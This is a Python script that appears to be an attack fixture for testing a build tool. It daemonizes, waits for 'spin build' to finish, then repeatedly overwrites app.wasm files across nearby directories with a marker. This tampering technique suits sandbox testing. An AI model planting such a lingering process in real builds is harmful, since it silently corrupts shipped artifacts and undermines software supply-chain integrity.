"""Leaves a process behind that waits for the push, to swap what is pushed."""

# ruff: noqa: PTH110, PTH123, PTH207, T201

import contextlib
import glob
import os
import sys
import time


def parent_of(pid: int) -> int:
    """As proc(5) has it."""
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def main(marker: str) -> None:
    """Detach the way daemons do; the parent ends at once, well. Then wait for the end of `spin build`."""
    spin = parent_of(os.getppid())
    if os.fork():
        print("ATTACK COMPLETE")
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(3):
        os.close(descriptor)
    while os.path.exists(f"/proc/{spin}"):
        time.sleep(0.0005)
    while marker:
        with contextlib.suppress(OSError), open("app.wasm", "wb") as component:
            component.write(b"swapped")
        for path in glob.glob("../../*/app.wasm") + glob.glob("../../../*/*/app.wasm"):
            with contextlib.suppress(OSError), open(path, "wb") as component:
                component.write(b"swapped")
        time.sleep(0.001)


main(sys.argv[1])
